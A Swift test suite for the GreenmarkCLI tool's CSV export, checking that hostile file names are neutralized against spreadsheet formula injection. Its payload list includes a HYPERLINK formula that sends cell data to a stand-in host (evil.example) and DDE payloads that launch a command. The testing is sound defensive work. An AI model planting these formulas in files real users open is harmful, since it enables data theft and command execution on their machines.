import Foundation
import Testing

@testable import GreenmarkCLI

/// `greenmark detect --csv`: no cell of a report can become a spreadsheet formula (OWASP "CSV
/// Injection"), whatever the essays' file names are.
@Suite("CSV reports neutralize spreadsheet formulas")
struct CSVInjectionTests {
    /// File names an attacker can hand in, each starting with a character that makes a cell a formula.
    static let hostileNames = [
        "=HYPERLINK(\"evil.example?x=\"&A1,\"click\").txt",
        "+cmd|' -C calc'!A0.txt",
        "-2+3+cmd|' -C calc'!A0.txt",
        "@SUM(1+1)*cmd|' -C calc'!A0.txt",
        "\t=1+1.txt",
        "\r=1+1.txt",
        "  =1+1.txt",
        "\u{FF1D}1+1.txt",
    ]

    @Test("every trigger (=, +, -, @, tab, CR, after spaces, full-width) gets a leading ' and quotes; numbers and plain text are unchanged")
    func cells() {
        for name in Self.hostileNames {
            let cell = BatchDetection.cell(name)
            #expect(cell == "\"'" + name.replacingOccurrences(of: "\"", with: "\"\"") + "\"", "\(name.debugDescription) → \(cell.debugDescription)")
        }
        #expect(BatchDetection.cell("-1.2345") == "-1.2345")  // a negative z-score stays a number
        #expect(BatchDetection.cell("3.2e-05") == "3.2e-05")
        #expect(BatchDetection.cell("-inf") == "\"'-inf\"")
        #expect(BatchDetection.cell("essay.txt") == "essay.txt")
        #expect(BatchDetection.cell("a,b.txt") == "\"a,b.txt\"")
        #expect(BatchDetection.cell("say \"hi\".txt") == "\"say \"\"hi\"\".txt\"")
        #expect(BatchDetection.cell("") == "")
    }

    @Test("the real greenmark: hostile file names given relative to the working directory come out neutralized in --csv")
    func report() throws {
        let home = try TemporaryHome()
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("gm-csv-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let essay = try Data(contentsOf: URL(fileURLWithPath: CLIProcess.fixture("gettysburg.txt")))
        for name in Self.hostileNames { try essay.write(to: URL(fileURLWithPath: dir + "/" + name)) }
        let csvPath = dir + "/report.csv"
        let r = try CLIProcess.run(["detect", "--home", home.path, "--csv", csvPath, "--"] + Self.hostileNames, directory: dir)
        #expect(r.status == 0, "\(r.stderr)")
        let csv = try String(contentsOfFile: csvPath, encoding: .utf8)
        let rows = csv.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
        #expect(rows.count == Self.hostileNames.count)
        for name in Self.hostileNames {
            let cell = "\"'" + name.replacingOccurrences(of: "\"", with: "\"\"") + "\","
            #expect(rows.contains { $0.hasPrefix(cell) }, "no neutralized row for \(name.debugDescription) in \(csv.debugDescription)")
        }
        // No row starts a cell with a trigger outside quotes.
        for row in rows { #expect(!"=+-@\t\r".contains(row.first!), "\(row.debugDescription)") }
        // The numeric columns are still numbers (z-scores of human prose may be negative).
        for row in rows {
            let afterName = row[row.range(of: "\",")!.upperBound...].split(separator: ",")
            #expect(Double(afterName[2]) != nil, "z-score cell \(afterName[2]) of \(row.debugDescription)")
        }
    }
}
